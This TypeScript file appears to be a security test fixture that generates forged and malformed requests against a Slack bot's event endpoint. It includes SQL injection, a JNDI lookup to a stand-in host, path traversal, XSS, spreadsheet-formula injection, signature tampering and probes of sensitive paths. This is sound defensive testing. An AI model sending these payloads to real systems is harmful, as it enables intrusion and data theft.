import { createHmac } from 'node:crypto';

/** A request that nobody but an attacker sends. `how`: some are sent as no client would. */
export type HostileRequest = {
  kind: string;
  method: string;
  path: string;
  headers: Record<string, string | string[]>;
  body: Buffer | string;
  how?: 'slowly' | 'cut off';
};

/** Chance, and what a request needs to look as if Slack had sent it. */
export type Chance = {
  random: () => number;
  pick: <T>(list: readonly T[]) => T;
  sign: (body: string, timestamp?: number) => Record<string, string>;
  /** Where answers would go if a forged address were believed. */
  evilUrl: string;
  botUrl: string;
};

/** Names that only forged requests have; nothing that leaves the bot may carry any. */
export const FORGED = 'FORGED';
const SLACK = '/slack/events';
const JSON_TYPE = { 'content-type': 'application/json' };
const FORM_TYPE = { 'content-type': 'application/x-www-form-urlencoded' };

const CONTROLS =
  '\u0000\u0007\u001b[2J\u200b\u200e\u202e\u2066\ufeff\ufffe\ud800\udfff\u{e0041}\u0300';
const TEXTS = [
  'tameside latest',
  '<!channel> <!here> <@U0FORGED> tameside',
  "tameside'; DROP TABLE inbox; --",
  '{"text":"tameside","blocks":[]}',
  '=cmd|/C calc!A0 tameside',
  '../../../../etc/passwd',
  `$\{jndi:ldap://forged.example/a} tameside`,
  '<script>alert(1)</script> tameside',
  '%00%0a%0d tameside',
  '__proto__ constructor toString tameside',
  'tameside *_~`>&lt;&amp;',
  '🏴‍☠️👩‍👩‍👧‍👦🇬🇧 tameside',
  'ما هو أحدث تقييم لمجلس تامسايد',
  '（╯°□°）╯ ┻━┻ tameside',
  '',
  ' ',
] as const;

/** What somebody may type who wishes the bot ill. */
export function hostileText({ random, pick }: Pick<Chance, 'random' | 'pick'>): string {
  const text = pick(TEXTS);
  const chance = random();
  if (chance < 0.2) return `${text} ${pick([...CONTROLS]).repeat(1 + Math.floor(random() * 50))}`;
  if (chance < 0.25) return `${text} ${'care leavers and '.repeat(200)}`;
  if (chance < 0.3) return `${'a'.repeat(3_000)} ${text}`;
  if (chance < 0.35) return `tameside ${'("'.repeat(1_000)}`;
  if (chance < 0.4) return `tameside ${'e\u0301'.repeat(1_000)}`;
  return text;
}

const command = (chance: Chance): string =>
  new URLSearchParams({
    command: '/ofsted',
    text: hostileText(chance),
    team_id: `T0${FORGED}`,
    channel_id: `C0${FORGED}`,
    user_id: `U0${FORGED}`,
    user_name: 'forged',
    trigger_id: `1.${FORGED}.${chance.random()}`,
    response_url: chance.evilUrl,
  }).toString();

const event = (chance: Chance): string =>
  JSON.stringify({
    type: 'event_callback',
    team_id: `T0${FORGED}`,
    event_id: `Ev0${FORGED}`,
    event: {
      type: chance.pick(['message', 'app_mention', 'app_uninstalled', 'tokens_revoked']),
      channel: `D0${FORGED}`,
      channel_type: 'im',
      user: `U0${FORGED}`,
      text: hostileText(chance),
      ts: `${chance.random()}`,
    },
  });

const now = (): number => Math.floor(Date.now() / 1_000);
const deep = (depth: number, [open, close]: [string, string]): string =>
  open.repeat(depth) + close.repeat(depth);

/** A body, with its kind of content, that could be Slack's. */
function body(chance: Chance): { text: string; type: Record<string, string> } {
  return chance.random() < 0.5
    ? { text: command(chance), type: FORM_TYPE }
    : { text: event(chance), type: JSON_TYPE };
}

type Make = (chance: Chance) => Omit<HostileRequest, 'kind'>;

const posted = (
  text: Buffer | string,
  headers: HostileRequest['headers'],
  how?: HostileRequest['how'],
): Omit<HostileRequest, 'kind'> => ({
  ...{ method: 'POST', path: SLACK, headers, body: text },
  ...(how && { how }),
});

/** None of these is validly signed. */
const UNSIGNED: Record<string, Make> = {
  'signed with another secret': (chance) => {
    const { text, type } = body(chance);
    const timestamp = String(now());
    const hash = createHmac('sha256', 'not the secret').update(`v0:${timestamp}:${text}`);
    const signature = `v0=${hash.digest('hex')}`;
    return posted(text, {
      ...type,
      'x-slack-request-timestamp': timestamp,
      'x-slack-signature': signature,
    });
  },
  'not signed': (chance) => {
    const { text, type } = body(chance);
    return posted(text, {
      ...type,
      ...chance.pick<Record<string, string>>([{}, { 'x-slack-request-timestamp': String(now()) }]),
    });
  },
  'signed long ago, or for a time to come': (chance) => {
    const { text, type } = body(chance);
    const skew = chance.pick([-86_400, -3_600, -330, 330, 3_600, 1e9]);
    return posted(text, { ...type, ...chance.sign(text, now() + skew) });
  },
  'an old signature with a new time': (chance) => {
    const { text, type } = body(chance);
    const signed = chance.sign(text, now() - 400);
    return posted(text, { ...type, ...signed, 'x-slack-request-timestamp': String(now()) });
  },
  'changed after it was signed': (chance) => {
    const { text, type } = body(chance);
    const at = Math.floor(chance.random() * text.length);
    const changed = chance.pick([text.slice(0, at), `${text}&a=b`, `${text} `, ` ${text}`]);
    return posted(changed, { ...type, ...chance.sign(text) });
  },
  'an odd signature': (chance) => {
    const { text, type } = body(chance);
    const { 'x-slack-signature': valid = '', ...time } = chance.sign(text);
    const signature = chance.pick<string | string[]>([
      '',
      'v0=',
      valid.replace('v0', 'v1'),
      valid.slice(3),
      valid.toUpperCase(),
      `${valid}00`,
      valid.slice(0, -2),
      [valid, 'v0=00'],
      `v0=${'0'.repeat(10_000)}`,
      'v0=undefined',
    ]);
    return posted(text, { ...type, ...time, 'x-slack-signature': signature });
  },
  'an odd time': (chance) => {
    const { text, type } = body(chance);
    const time = chance.pick(['', 'NaN', 'Infinity', '-1', '1e400', '0x7fffffff', `${now()}abc`]);
    return posted(text, { ...type, ...chance.sign(text), 'x-slack-request-timestamp': time });
  },
  huge: (chance) =>
    posted(Buffer.alloc(1_100_000, 'x'), { ...chance.pick([JSON_TYPE, FORM_TYPE]) }),
  'JSON that is deep or nothing': (chance) =>
    posted(
      chance.pick(['null', '[]', '1', '""', deep(50_000, ['[', ']']), '{"a":'.repeat(9_999)]),
      {
        ...JSON_TYPE,
        'x-slack-request-timestamp': String(now()),
        'x-slack-signature': 'v0=00',
      },
    ),
  'a bad encoding': (chance) =>
    posted(
      Buffer.from(Array.from({ length: 500 }, () => Math.floor(chance.random() * 256))),
      chance.pick<HostileRequest['headers']>([
        { 'content-type': 'application/json; charset=utf-16', 'content-encoding': 'gzip' },
        { 'content-type': 'multipart/form-data; boundary=x', 'content-encoding': 'br' },
        { ...FORM_TYPE, 'content-encoding': 'deflate' },
        { 'content-type': 'text/xml' },
      ]),
    ),
  'tricks in its headers': (chance) => {
    const { text, type } = body(chance);
    return posted(text, {
      ...type,
      ...chance.pick<HostileRequest['headers']>([
        { 'x-forwarded-for': '127.0.0.1', 'x-forwarded-host': 'slack.com', host: 'slack.com' },
        { 'x-http-method-override': 'GET', 'x-original-url': '/health/live' },
        { 'x-slack-retry-num': '1', 'x-slack-retry-reason': 'http_timeout' },
        { authorization: 'Bearer xoxb-forged', cookie: 'd=xoxd-forged' },
        { 'x-slack-no-retry': '1', 'user-agent': 'Slackbot 1.0 (+https://api.slack.com/robots)' },
        { 'x-padding': 'x'.repeat(15_000) },
        { 'transfer-encoding': 'chunked' },
        { upgrade: 'h2c', connection: 'Upgrade' },
      ]),
    });
  },
  'another path or method': (chance) => ({
    method: chance.pick(['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'TRACE']),
    path: chance.pick([
      '/',
      '//slack/events',
      '/slack/events/',
      '/slack/events/..',
      '/slack/events%00',
      '/SLACK/EVENTS',
      '/slack/commands',
      '/slack/install',
      '/slack/oauth_redirect?code=forged&state=forged',
      '/health/../slack/events',
      '/.env',
      '/data/inspections.json',
      '/debug/pprof',
      `/${'a'.repeat(8_000)}`,
      '/api/auth.test',
    ]),
    headers: {},
    body: '',
  }),
  'slow or cut off': (chance) => {
    const { text, type } = body(chance);
    return posted(
      text,
      { ...type, ...chance.sign(`${text}x`) },
      chance.pick(['slowly', 'cut off']),
    );
  },
  'a forged click or form': (chance) => {
    const text = new URLSearchParams({ payload: interaction(chance, FORGED) }).toString();
    return posted(text, { ...FORM_TYPE, ...chance.sign(`${text}x`) });
  },
  'a check of the certificate that says more': (chance) => {
    return posted(`${command(chance)}&ssl_check=1`, FORM_TYPE);
  },
};

const ACTIONS = [
  'ask:0',
  'show:0:1',
  'share',
  'share:0',
  'report',
  'feedback',
  'fetch',
  'digest:edit',
  'digest:preview',
  'digest:mode',
  'digest:post-now',
  '__proto__',
];
const VALUES = [
  '',
  'null',
  '[]',
  '{}',
  '{"urn":"../../etc","question":"x","share":true}',
  '["__proto__"]',
  "one:2026-11-20' OR 1=1",
  deep(5_000, ['[', ']']),
  'tameside '.repeat(220),
];

/** A click or a form with anything in it; `mark` is in every id that it names. */
function interaction(chance: Chance, mark: string): string {
  const person = { id: `U0${mark}`, name: 'forged', team_id: `T0${mark}` };
  const value = () => chance.pick(VALUES);
  const common = {
    ...{ team: { id: `T0${mark}` }, user: person, enterprise: null },
    ...{ trigger_id: `2.${mark}.${chance.random()}`, is_enterprise_install: false },
  };
  return JSON.stringify(
    chance.pick<() => unknown>([
      () => ({
        ...{ ...common, type: 'block_actions', channel: { id: `C0${mark}` } },
        container: { type: 'message', message_ts: '1.1', channel_id: `C0${mark}` },
        response_url: chance.evilUrl,
        actions: [{ type: 'button', action_id: chance.pick(ACTIONS), value: value() }],
      }),
      () => ({
        ...{ ...common, type: 'block_actions', actions: chance.pick([[], null, [null], {}]) },
        container: {},
      }),
      () => ({
        ...{ ...common, type: 'view_submission' },
        view: {
          ...{
            id: 'V1',
            type: 'modal',
            callback_id: chance.pick(['error-report', 'digest-form', 'x']),
          },
          ...{ private_metadata: value(), state: { values: chance.pick([{}, null, []]) } },
        },
      }),
      () => ({
        ...{ ...common, type: 'block_suggestion', block_id: 'x', value: value() },
        action_id: chance.pick(['councils', 'themes', 'zone', 'x']),
        view: { id: 'V1', type: 'modal' },
      }),
      () => ({
        ...common,
        type: chance.pick(['shortcut', 'view_closed', 'dialog', '', 'message']),
      }),
    ])(),
  );
}

/** Validly signed, and nothing that Slack sends; they ask nothing that can be answered. */
const SIGNED: Record<string, (chance: Chance) => { text: string; type: Record<string, string> }> = {
  'signed JSON that is deep or nothing': (chance) => ({
    text: chance.pick([
      ...['null', '[]', '1', '""', '{}', '{"event":null}', '{"type":7}', '{"event":[]}'],
      ...['{"__proto__":{"event":{}},"type":"event_callback"}', '{"a":1e999}', '{', '{"a":}'],
      `{"a":${deep(5_000, ['[', ']'])}}`,
    ]),
    type: JSON_TYPE,
  }),
  'a signed event with anything in it': (chance) => ({
    text: JSON.stringify({
      ...{ type: 'event_callback', team_id: chance.pick(['T0SIGNED', null, 7, {}, '']) },
      event: {
        type: chance.pick(['message', 'app_mention', 'app_home_opened', 'channel_shared', 'x', 7]),
        channel: chance.pick(['<!channel>', null, 7, [], {}, undefined]),
        user: chance.pick([null, 7, [], { id: 'U1' }, '<@U1>']),
        text: chance.pick([null, 7, [], {}]),
        ts: chance.pick([null, 7, '', undefined]),
      },
    }),
    type: JSON_TYPE,
  }),
  'a signed click or form with anything in it': (chance) => ({
    text: new URLSearchParams({ payload: interaction(chance, 'SIGNED') }).toString(),
    type: FORM_TYPE,
  }),
  'a signed command with anything in it': (chance) => ({
    text: new URLSearchParams({
      command: chance.pick(['/ofsted', '/other', '', '/OFSTED']),
      text: 'tameside',
      user_id: chance.pick(['', '<!here>', 'U0SIGNED']),
      response_url: chance.pick(['', 'javascript:1', chance.evilUrl, 'x'.repeat(5_000)]),
    }).toString(),
    type: FORM_TYPE,
  }),
  'signed, of Slack’s rarer kinds': (chance) => ({
    text: chance.pick([
      '{"type":"app_rate_limited","team_id":"T1","minute_rate_limited":1}',
      '{"type":"url_verification","challenge":"x"}',
    ]),
    type: JSON_TYPE,
  }),
};

/** A request that is not validly signed. */
export function unsigned(chance: Chance): HostileRequest {
  const kind = chance.pick(Object.keys(UNSIGNED));
  const made = (UNSIGNED[kind] as Make)(chance);
  return { kind, ...made };
}

/** A request that is validly signed, and not what Slack sends. */
export function signed(chance: Chance): HostileRequest {
  const kind = chance.pick(Object.keys(SIGNED));
  const make = SIGNED[kind] as (typeof SIGNED)[string];
  const { text, type } = make(chance);
  return { kind, ...posted(text, { ...type, ...chance.sign(text) }) };
}
